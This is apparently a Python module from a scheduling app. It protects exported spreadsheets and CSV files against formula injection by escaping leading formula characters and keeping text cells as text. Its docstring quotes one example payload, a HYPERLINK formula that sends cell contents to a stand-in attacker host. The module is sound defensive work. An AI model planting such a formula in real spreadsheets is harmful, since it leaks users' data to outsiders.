"""Spreadsheet safety: text stays text, sheet titles are valid and never read as formulas.

A name or site typed as ``=HYPERLINK("http://evil.example/?x="&A1,..)`` must never become a
live formula in a file a coordinator opens. roster.xlsx writes every text cell with
xlsxwriter's ``write_string`` (:mod:`matcher.io.xlsx_writer`), so the cell shows what was
typed; sheets that openpyxl adds later (Schedule, Short hours) are kept text by
:func:`keep_text_as_text`. CSV files have no cell types, so their free-text columns (a site, a
region) get the usual guard instead: a leading apostrophe before ``= + - @``, tab or CR
(:func:`csv_safe_text`).
"""

from __future__ import annotations

from collections.abc import Iterable

import pandas as pd

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""

_SHEET_FORBIDDEN = "[]:*?/\\"


def sheet_title(name: str, taken: set[str]) -> str:
    """Excel sheet names: at most 31 characters, none of []:*?/\\, unique (case-insensitive),
    not starting with an apostrophe; a leading formula character becomes ``_`` so a title
    never reads like a formula where it is quoted (links, formulas of other sheets)."""
    clean = "".join("_" if ch in _SHEET_FORBIDDEN or ch < " " else ch for ch in name)
    clean = clean.lstrip("'")
    if clean.startswith(FORMULA_TRIGGERS):
        clean = "_" + clean[1:]
    clean = clean[:31].rstrip("'") or "sheet"
    base, n = clean, 2
    while clean.lower() in taken:
        suffix = f"~{n}"
        clean = base[: 31 - len(suffix)] + suffix
        n += 1
    taken.add(clean.lower())
    return clean


def csv_safe_text(value: object) -> object:
    """A free-text value for a CSV file a spreadsheet may open: a leading ``'`` where the text
    would otherwise start a formula. Numbers (also "-3.5" as text) and empty cells are kept."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value


def keep_text_as_text(sheets) -> None:
    """Cells of openpyxl sheets that openpyxl took for formulas become text again.

    openpyxl reads any string starting with ``=`` that is assigned or appended as a formula.
    coachmatch writes no formulas, so every such cell holds input text (a name, a site):
    it is saved as the string it is.
    """
    for sheet in sheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def csv_safe(frame: pd.DataFrame, columns: Iterable[str]) -> pd.DataFrame:
    """A copy of ``frame`` whose free-text ``columns`` (sites, regions: input text) are guarded
    by :func:`csv_safe_text` for a CSV file; ids and figures are left exactly as they are."""
    safe = frame.copy()
    for column in columns:
        if column in safe:
            safe[column] = safe[column].map(csv_safe_text)
    return safe
